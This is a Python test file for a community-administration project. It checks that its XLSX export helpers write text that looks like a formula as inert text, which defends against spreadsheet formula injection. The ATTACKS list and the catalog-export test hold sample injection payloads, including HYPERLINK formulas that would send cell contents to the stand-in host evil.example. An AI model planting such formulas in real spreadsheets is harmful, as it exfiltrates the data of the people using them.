"""Text typed by people goes into the XLSX files as text, never as a formula (formula injection):
the cell reads back unchanged, is a string cell, and the file holds no formula; the catalog's
export (office-entered text) writes through the same helper; `xlsx_bytes` writes every cell
that way and `xlsx_response` answers the download."""

import datetime as dt
import io
import zipfile
from collections.abc import Sequence
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from communitygate.catalog.transfer import export_xlsx
from communitygate.core.tabular import (
    FORMULA_STARTS,
    XLSX_CONTENT_TYPE,
    xlsx_bytes,
    xlsx_cell,
    xlsx_response,
    xlsx_row,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")',
    "=1+1",
    "+86 139",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=",
]


def written(rows: Sequence[Sequence[object]], *, write_only: bool) -> bytes:
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet(title="表")
    for values in rows:
        sheet.append(xlsx_row(values))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


@pytest.mark.parametrize("write_only", [True, False])
def test_text_that_looks_like_a_formula_stays_text_and_reads_back_unchanged(
    write_only: bool,
) -> None:
    content = written([ATTACKS], write_only=write_only)
    cells = next(iter(load_workbook(io.BytesIO(content))["表"].iter_rows()))
    # XML reads a carriage return back as a line feed; nothing else changes.
    assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in ATTACKS]
    assert all(cell.data_type == "s" for cell in cells)
    assert "<f>" not in sheet_xml(content) and "<f " not in sheet_xml(content)


@pytest.mark.parametrize("write_only", [True, False])
def test_dates_numbers_and_error_codes_beside_formula_like_text_keep_their_types(
    write_only: bool,
) -> None:
    row = ["=1+1", dt.date(2025, 6, 1), "#N/A", 3, "=2", dt.datetime(2025, 6, 1, 9, 30), None]
    content = written([row, ["=3", "plain"]], write_only=write_only)
    sheet = load_workbook(io.BytesIO(content))["表"]
    first, second = list(sheet.iter_rows(max_col=7))[:2]
    assert [cell.value for cell in first] == [
        "=1+1",
        dt.datetime(2025, 6, 1),
        "#N/A",
        3,
        "=2",
        dt.datetime(2025, 6, 1, 9, 30),
        None,
    ]
    assert [cell.data_type for cell in first[:5]] == ["s", "d", "s", "n", "s"]
    assert [(cell.value, cell.data_type) for cell in second[:2]] == [("=3", "s"), ("plain", "s")]
    assert "<f>" not in sheet_xml(content)


def test_every_start_a_spreadsheet_reads_as_a_formula_is_covered() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_other_values_go_in_as_they_are() -> None:
    assert xlsx_cell("张三") == "张三"
    assert xlsx_cell("a=b") == "a=b"
    assert xlsx_cell(3) == 3
    assert xlsx_cell(None) is None
    content = written([["张三", 3, None, "2025-01-01"]], write_only=True)
    values = next(load_workbook(io.BytesIO(content))["表"].iter_rows(values_only=True))
    assert values == ("张三", 3, None, "2025-01-01")


def test_a_control_character_cannot_make_the_export_fail() -> None:
    content = written([["坏\x01字", "=坏\x02"]], write_only=True)
    values = next(load_workbook(io.BytesIO(content))["表"].iter_rows(values_only=True))
    assert values == ("坏\ufffd字", "=坏\ufffd")


def test_the_catalogs_export_writes_office_text_as_text() -> None:
    snapshot: dict[str, Any] = {
        "code": "=CODE",
        "name": '=HYPERLINK("http://evil.example","事项")',
        "item_class": "duty",
        "domain": "other",
        "legal_basis": "+依据",
        "department_name": "@民政局",
        "community_duty": "-协助",
        "frequency": "",
        "ledgers": [],
        "estimated_hours": "1",
        "funding_per_community": None,
    }
    content = export_xlsx([snapshot], title="准入目录")
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    row = next(sheet.iter_rows(min_row=2, max_row=2))
    assert all(cell.data_type != "f" for cell in row)
    assert row[1].value == "=CODE"
    assert row[2].value == '=HYPERLINK("http://evil.example","事项")'
    assert "<f>" not in sheet_xml(content)


def test_xlsx_bytes_writes_headers_and_xlsx_rows_and_counts_the_rows() -> None:
    rows: list[list[object]] = [
        ["甲", "=1+1", 3, dt.date(2026, 11, 23)],
        ["乙", "@SUM(A1)", None, None],
    ]
    content, count = xlsx_bytes("名册", ("姓名", "备注", "数", "日期"), iter(rows))
    assert count == 2
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["名册"]
    values = list(workbook["名册"].iter_rows(values_only=True))
    assert values == [
        ("姓名", "备注", "数", "日期"),
        ("甲", "=1+1", 3, dt.datetime(2026, 11, 23)),
        ("乙", "@SUM(A1)", None, None),
    ]
    assert "<f>" not in sheet_xml(content) and "<f " not in sheet_xml(content)


def test_xlsx_bytes_of_no_rows_is_the_headers_alone() -> None:
    content, count = xlsx_bytes("表", ["列"], [])
    assert count == 0
    assert list(load_workbook(io.BytesIO(content))["表"].iter_rows(values_only=True)) == [("列",)]


def test_xlsx_response_is_a_download_under_its_name() -> None:
    response = xlsx_response(b"PK", "matters-20261123.xlsx")
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="matters-20261123.xlsx"'
    assert response.content == b"PK"


def test_xlsx_response_encodes_a_chinese_name() -> None:
    response = xlsx_response(b"PK", "居民信息导入模板.xlsx")
    assert response["Content-Disposition"] == (
        "attachment; filename*=UTF-8''"
        "%E5%B1%85%E6%B0%91%E4%BF%A1%E6%81%AF%E5%AF%BC%E5%85%A5%E6%A8%A1%E6%9D%BF.xlsx"
    )
